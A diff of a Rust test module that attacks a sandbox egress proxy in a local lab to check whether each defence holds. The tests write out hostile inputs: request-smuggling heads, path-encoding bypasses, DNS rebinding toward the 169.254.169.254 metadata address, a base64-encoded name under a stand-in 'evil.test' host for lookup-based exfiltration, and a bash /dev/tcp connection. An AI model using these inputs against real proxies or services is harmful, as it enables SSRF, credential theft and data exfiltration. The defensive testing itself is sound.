@@ -1,9 +1,10 @@
 //! The attacks on the proxy themselves: each says whether it worked.
 
-use super::scene::{Kind, PUBLIC, Scene, Server, Setting, Trust, rule, scene, server, talk};
+use super::lab::{Kind, PUBLIC, Lab, Server, LabConfig, Trust, rule, identifier, server, start_lab, talk};
 use super::suite::{Layer, Outcome};
-use crate::credentials::{Credential, CredentialStore, Secret, Source};
-use crate::proxy::defence::Defence;
+use super::weak::{ByOwnName, Defence, Without};
+use crate::credentials::{Credential, CredentialStore, Secret, CredentialSource};
+use crate::proxy::defences::{AllDefences, Defences};
 use crate::resolver::{Resolve, ResolveError, Resolving};
 use std::net::IpAddr;
 use std::process::Command;
@@ -16,18 +17,18 @@ const READ_ONLY: &str = "        protocol: rest\n        enforcement: enforce\n 
 const ENFORCED: &str = "        protocol: rest\n        enforcement: enforce\n        rules:\n          - allow: {method: \"*\", path: \"/open/**\"}\n        deny_rules:\n          - {method: \"*\", path: \"/open/secret\"}";
 
 impl Layer {
-    fn without(self, defence: Defence) -> Vec<Defence> {
-        if self == Self::LeftOut { vec![defence] } else { Vec::new() }
+    fn without(self, defence: Defence) -> Arc<dyn Defences> {
+        if self == Self::LeftOut { Arc::new(Without::new(defence)) } else { Arc::new(AllDefences) }
     }
 }
 
 /// A TLS server of `api.test` under these keys, and the proxy before it.
-async fn inspecting(keys: &str, without: Vec<Defence>) -> (Scene, Server) {
-    let mut setting = Setting::new("");
-    let server = server(Kind::Tls(setting.vendor.clone())).await;
-    setting.policy = rule(server.port, keys);
-    setting.without = without;
-    (scene(setting).await, server)
+async fn inspecting(keys: &str, defences: Arc<dyn Defences>) -> (Lab, Server) {
+    let mut config = LabConfig::new("");
+    let server = server(Kind::Tls(config.vendor.clone())).await;
+    config.policy = rule(server.port, keys);
+    config.defences = defences;
+    (start_lab(config).await, server)
 }
 
 impl Server {
@@ -42,28 +43,28 @@ pub(super) async fn odd_hosts(layer: Layer) -> Outcome {
             "policy, resolver and server get one parsed name: there is no second reading",
         );
     }
-    let scene = scene(Setting::new(rule(443, ""))).await;
+    let lab = start_lab(LabConfig::new(rule(443, ""))).await;
     for authority in [
         "other.test\0.api.test:443",
         "api.test@other.test:443",
         "api.test%2eother.test:443",
         "api.test\t:443",
     ] {
-        scene.raw(&format!("CONNECT {authority} HTTP/1.1\r\nHost: api.test:443\r\n\r\n")).await;
+        lab.raw(&format!("CONNECT {authority} HTTP/1.1\r\nHost: api.test:443\r\n\r\n")).await;
     }
-    (!scene.dialled().is_empty()).into()
+    (!lab.dialled().is_empty()).into()
 }
 
 pub(super) async fn plain_requests(layer: Layer) -> Outcome {
     let server = server(Kind::Plain).await;
-    let mut setting = Setting::new(rule(server.port, READ_ONLY));
-    setting.without = layer.without(Defence::PlainRequests);
-    let scene = scene(setting).await;
+    let mut config = LabConfig::new(rule(server.port, READ_ONLY));
+    config.defences = layer.without(Defence::PlainRequests);
+    let lab = start_lab(config).await;
     let head = format!(
         "POST http://api.test:{0}/a HTTP/1.1\r\nHost: api.test:{0}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
         server.port
     );
-    scene.raw(&head).await;
+    lab.raw(&head).await;
     server.got("POST /a").into()
 }
 
@@ -71,10 +72,10 @@ pub(super) async fn plain_requests(layer: Layer) -> Outcome {
 pub(super) async fn another_host(layer: Layer) -> Outcome {
     let server = server(Kind::Plain).await;
     let listed = if layer == Layer::There { "api.test" } else { "other.test" };
-    let scene =
-        scene(Setting::new(rule(server.port, "").replace("host: api.test", &format!("host: {listed}"))))
+    let lab =
+        start_lab(LabConfig::new(rule(server.port, "").replace("host: api.test", &format!("host: {listed}"))))
             .await;
-    scene.tunnel(&format!("other.test:{}", server.port)).await.is_ok().into()
+    lab.tunnel(&format!("other.test:{}", server.port)).await.is_ok().into()
 }
 
 /// Answers differently each time, and remembers that it was asked.
@@ -89,36 +90,46 @@ impl Changing {
         let answers = answers.iter().map(|text| text.parse().unwrap()).collect();
         Arc::new(Self { answers, asked: AtomicUsize::new(0), names: Mutex::default() })
     }
+
+    fn next(&self) -> IpAddr {
+        let at = self.asked.fetch_add(1, Ordering::Relaxed).min(self.answers.len() - 1);
+        self.answers[at]
+    }
 }
 
 impl Resolve for Changing {
     fn resolve<'a>(&'a self, host: &'a str) -> Resolving<'a> {
         self.names.lock().unwrap().push(host.to_owned());
-        let at = self.asked.fetch_add(1, Ordering::Relaxed).min(self.answers.len() - 1);
-        let answer: Result<Vec<IpAddr>, ResolveError> = Ok(vec![self.answers[at]]);
+        let answer: Result<Vec<IpAddr>, ResolveError> = Ok(vec![self.next()]);
         Box::pin(std::future::ready(answer))
     }
 }
 
+/// The layer is the decision, which resolving takes as a parameter: a name that the policy allows is resolved.
 pub(super) async fn early_lookup(layer: Layer) -> Outcome {
     let resolver = Changing::new(&[PUBLIC]);
-    let mut setting = Setting::new(rule(443, ""));
-    setting.resolver = Some(Arc::clone(&resolver) as Arc<dyn Resolve>);
-    setting.without = layer.without(Defence::DecidedFirst);
-    let scene = scene(setting).await;
-    assert!(scene.tunnel("c2VjcmV0.evil.test:443").await.is_err());
-    let told = !resolver.names.lock().unwrap().is_empty();
-    told.into()
+    let listed = if layer == Layer::There { "api.test" } else { "\"*.evil.test\"" };
+    let policy = rule(443, "").replace("host: api.test", &format!("host: {listed}"));
+    let mut config = LabConfig::new(policy);
+    config.resolver = Some(Arc::clone(&resolver) as Arc<dyn Resolve>);
+    let lab = start_lab(config).await;
+    drop(lab.tunnel("c2VjcmV0.evil.test:443").await);
+    let resolved = !resolver.names.lock().unwrap().is_empty();
+    resolved.into()
 }
 
+/// The layer is that the checked address is dialled: a dialer that resolves again reaches another one.
 pub(super) async fn rebinding(layer: Layer) -> Outcome {
     let server = server(Kind::Plain).await;
-    let mut setting = Setting::new(rule(server.port, ""));
-    setting.resolver = Some(Changing::new(&[PUBLIC, "169.254.169.254"]));
-    setting.without = layer.without(Defence::OneLookup);
-    let scene = scene(setting).await;
-    drop(scene.tunnel(&format!("api.test:{}", server.port)).await);
-    scene.dialled().contains(&"169.254.169.254".parse().unwrap()).into()
+    let mut config = LabConfig::new(rule(server.port, ""));
+    let resolver = Changing::new(&[PUBLIC, "169.254.169.254"]);
+    config.resolver = Some(Arc::clone(&resolver) as Arc<dyn Resolve>);
+    if layer == Layer::LeftOut {
+        config.dials = Some(Arc::new(move || resolver.next()));
+    }
+    let lab = start_lab(config).await;
+    drop(lab.tunnel(&format!("api.test:{}", server.port)).await);
+    lab.dialled().contains(&"169.254.169.254".parse().unwrap()).into()
 }
 
 pub(super) async fn disguised_addresses(layer: Layer) -> Outcome {
@@ -134,12 +145,12 @@ pub(super) async fn disguised_addresses(layer: Layer) -> Outcome {
     ];
     for address in disguises {
         let server = server(Kind::Plain).await;
-        let mut setting = Setting::new(rule(server.port, ""));
-        setting.names = vec![("api.test", vec![PUBLIC.parse().unwrap(), address.parse().unwrap()])];
-        setting.without = layer.without(Defence::Addresses);
-        let scene = scene(setting).await;
-        drop(scene.tunnel(&format!("api.test:{}", server.port)).await);
-        worked += usize::from(!scene.dialled().is_empty());
+        let mut config = LabConfig::new(rule(server.port, ""));
+        config.names = vec![("api.test", vec![PUBLIC.parse().unwrap(), address.parse().unwrap()])];
+        config.defences = layer.without(Defence::Addresses);
+        let lab = start_lab(config).await;
+        drop(lab.tunnel(&format!("api.test:{}", server.port)).await);
+        worked += usize::from(!lab.dialled().is_empty());
     }
     match layer {
         Layer::There => worked > 0,
@@ -150,27 +161,27 @@ pub(super) async fn disguised_addresses(layer: Layer) -> Outcome {
 
 /// A client that follows a redirect asks anew; the layer is that the new question is decided.
 pub(super) async fn redirect(layer: Layer) -> Outcome {
-    let mut setting = Setting::new("");
+    let mut config = LabConfig::new("");
     let target = server(Kind::Plain).await;
     let listed = if layer == Layer::There { "api.test" } else { "other.test" };
-    setting.policy = rule(target.port, "").replace("host: api.test", &format!("host: {listed}"));
-    setting.names.push(("metadata.test", vec!["169.254.169.254".parse().unwrap()]));
-    let scene = scene(setting).await;
+    config.policy = rule(target.port, "").replace("host: api.test", &format!("host: {listed}"));
+    config.names.push(("metadata.test", vec!["169.254.169.254".parse().unwrap()]));
+    let lab = start_lab(config).await;
     let location = format!("http://other.test:{}/open", target.port);
-    scene
+    lab
         .raw(&format!(
             "GET {location} HTTP/1.1\r\nHost: other.test:{}\r\nConnection: close\r\n\r\n",
             target.port
         ))
         .await;
     let metadata =
-        scene.raw("GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").await;
+        lab.raw("GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").await;
     assert!(metadata.starts_with("HTTP/1.1 403 "), "{metadata}");
     target.got("GET /open").into()
 }
 
 pub(super) async fn smuggling(layer: Layer) -> Outcome {
-    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::Heads)).await;
+    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::Heads)).await;
     let hidden =
         format!("GET /open/secret HTTP/1.1\r\nHost: api.test:{}\r\nConnection: close\r\n\r\n", server.port);
     // The server takes the first length, a forgiving proxy the last.
@@ -179,18 +190,18 @@ pub(super) async fn smuggling(layer: Layer) -> Outcome {
         server.port,
         hidden.len()
     );
-    talk(scene.inspected(server.port).await, &head).await;
+    talk(lab.inspected(server.port).await, &head).await;
     server.got("GET /open/secret").into()
 }
 
 pub(super) async fn path_spellings(layer: Layer) -> Outcome {
-    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::Paths)).await;
+    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::Paths)).await;
     let mut worked = 0;
     let spellings = ["/open/x/../secret", "/open/%73ecret", "/open//secret"];
     for path in spellings {
         let head =
             format!("GET {path} HTTP/1.1\r\nHost: api.test:{}\r\nConnection: close\r\n\r\n", server.port);
-        talk(scene.inspected(server.port).await, &head).await;
+        talk(lab.inspected(server.port).await, &head).await;
         worked += usize::from(server.got(&format!("GET {path} ")) || server.got("GET /open/secret "));
     }
     match layer {
@@ -201,35 +212,37 @@ pub(super) async fn path_spellings(layer: Layer) -> Outcome {
 }
 
 pub(super) async fn another_host_inside(layer: Layer) -> Outcome {
-    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::Agreement)).await;
+    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::Agreement)).await;
     let fronted = "GET /open/a HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n";
-    talk(scene.inspected(server.port).await, fronted).await;
+    talk(lab.inspected(server.port).await, fronted).await;
     let host = server.heads.lock().unwrap().iter().any(|head| head.contains("Host: other.test"));
-    let stream = scene.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
+    let stream = lab.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
     // The certificate is for the tunnel's host; that the handshake was let happen is what counts.
-    drop(scene.tls(stream, Trust::Run, "other.test").await);
+    drop(lab.tls(stream, Trust::Run, "other.test").await);
     host.into()
 }
 
 pub(super) async fn second_request(layer: Layer) -> Outcome {
-    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::EveryRequest)).await;
+    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::EveryRequest)).await;
     let host = format!("Host: api.test:{}", server.port);
     let both = format!(
         "GET /open/a HTTP/1.1\r\n{host}\r\n\r\nGET /open/secret HTTP/1.1\r\n{host}\r\nConnection: close\r\n\r\n"
     );
-    talk(scene.inspected(server.port).await, &both).await;
+    talk(lab.inspected(server.port).await, &both).await;
     assert!(server.got("GET /open/a"));
     server.got("GET /open/secret").into()
 }
 
 pub(super) async fn own_name(layer: Layer) -> Outcome {
     let server = server(Kind::Plain).await;
-    let mut setting = Setting::new(rule(server.port, "").replace("/**", "/usr/bin/only-this"));
-    setting.without = layer.without(Defence::Binary);
-    let scene = scene(setting).await;
+    let mut config = LabConfig::new(rule(server.port, "").replace("/**", "/usr/bin/only-this"));
+    if layer == Layer::LeftOut {
+        config.identifier = Arc::new(ByOwnName(identifier()));
+    }
+    let lab = start_lab(config).await;
     let script = format!(
         "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'CONNECT api.test:{1} HTTP/1.1\\r\\nHost: api.test:{1}\\r\\n\\r\\n' >&3; read -r -t 10 line <&3; echo \"$line\"",
-        scene.proxy.port(),
+        lab.proxy.port(),
         server.port
     );
     let mut command = Command::new("bash");
@@ -240,39 +253,39 @@ pub(super) async fn own_name(layer: Layer) -> Outcome {
 
 /// The layer is the binding: an endpoint that the policy binds the provider to gets the value.
 pub(super) async fn credential_elsewhere(layer: Layer) -> Outcome {
-    let mut setting = Setting::new("");
-    let server = server(Kind::Tls(setting.vendor.clone())).await;
-    let source = Source::fixed(Secret::new("s3cret".to_owned()));
+    let mut config = LabConfig::new("");
+    let server = server(Kind::Tls(config.vendor.clone())).await;
+    let source = CredentialSource::fixed(Secret::new("s3cret".to_owned()));
     let credential = Credential { provider: "p".into(), key: "TOKEN".into(), source, endpoints: Vec::new() };
     let store = CredentialStore::new(vec![credential]).unwrap();
     let placeholder = store.placeholders()[0].1.clone();
-    setting.credentials = Arc::new(store);
+    config.credentials = Arc::new(store);
     let binding = "\n        credential_binding: {provider: p}";
     let keys = if layer == Layer::There { READ_ONLY.to_owned() } else { format!("{READ_ONLY}{binding}") };
-    setting.policy = rule(server.port, &keys);
-    let scene = scene(setting).await;
+    config.policy = rule(server.port, &keys);
+    let lab = start_lab(config).await;
     let head = format!(
         "GET /a?key={placeholder} HTTP/1.1\r\nHost: api.test:{}\r\nX-Token: {placeholder}\r\nConnection: close\r\n\r\n",
         server.port
     );
-    talk(scene.inspected(server.port).await, &head).await;
-    assert!(!format!("{:?}", scene.events.lock().unwrap()).contains("s3cret"));
+    talk(lab.inspected(server.port).await, &head).await;
+    assert!(!format!("{:?}", lab.events.lock().unwrap()).contains("s3cret"));
     let heads = server.heads.lock().unwrap();
     heads.iter().any(|head| head.contains("s3cret") || head.contains(&placeholder)).into()
 }
 
 /// The layer is that requests are read: with a rule for the connection alone, anything is posted to an allowed host.
 pub(super) async fn allowed_relay(layer: Layer) -> Outcome {
-    let mut setting = Setting::new("");
-    let server = server(Kind::Tls(setting.vendor.clone())).await;
+    let mut config = LabConfig::new("");
+    let server = server(Kind::Tls(config.vendor.clone())).await;
     let (keys, trust) = match layer {
         Layer::There => (READ_ONLY, Trust::Run),
-        Layer::LeftOut => ("", Trust::Vendor),
+        Layer::LeftOut => ("", Trust::Server),
     };
-    setting.policy = rule(server.port, keys);
-    let scene = scene(setting).await;
-    let stream = scene.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
-    let stream = scene.tls(stream, trust, "api.test").await.unwrap();
+    config.policy = rule(server.port, keys);
+    let lab = start_lab(config).await;
+    let stream = lab.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
+    let stream = lab.tls(stream, trust, "api.test").await.unwrap();
     let head = format!(
         "POST /gists HTTP/1.1\r\nHost: api.test:{}\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndata",
         server.port
@@ -283,7 +296,7 @@ pub(super) async fn allowed_relay(layer: Layer) -> Outcome {
 
 /// With the key anybody can speak for any host; so it must not be where the sandbox can read it.
 pub(super) async fn authority_key(layer: Layer) -> Outcome {
-    let authority = crate::tls::Authority::new().unwrap();
+    let authority = crate::tls::RunAuthority::new().unwrap();
     if layer == Layer::There {
         let open = std::fs::read_dir("/proc/self/fd").unwrap().filter_map(Result::ok);
         let files = open.filter_map(|entry| std::fs::read_link(entry.path()).ok());
@@ -305,19 +318,19 @@ pub(super) async fn authority_key(layer: Layer) -> Outcome {
 /// The layer is the time that a head may take.
 pub(super) async fn slow_heads(layer: Layer) -> Outcome {
     let server = server(Kind::Plain).await;
-    let mut setting = Setting::new(rule(server.port, ""));
-    setting.limits.connections = 2;
-    setting.limits.head_time =
+    let mut config = LabConfig::new(rule(server.port, ""));
+    config.limits.connections = 2;
+    config.limits.head_time =
         if layer == Layer::There { Duration::from_millis(100) } else { Duration::from_secs(600) };
-    let scene = scene(setting).await;
+    let lab = start_lab(config).await;
     let mut held = Vec::new();
     for _ in 0..8 {
-        let mut stream = scene.connect().await;
+        let mut stream = lab.connect().await;
         stream.write_all(b"G").await.unwrap();
         held.push(stream);
     }
     let authority = format!("api.test:{}", server.port);
-    let others = tokio::time::timeout(Duration::from_secs(5), scene.tunnel(&authority)).await;
+    let others = tokio::time::timeout(Duration::from_secs(5), lab.tunnel(&authority)).await;
     let starved = !matches!(others, Ok(Ok(_)));
     starved.into()
 }
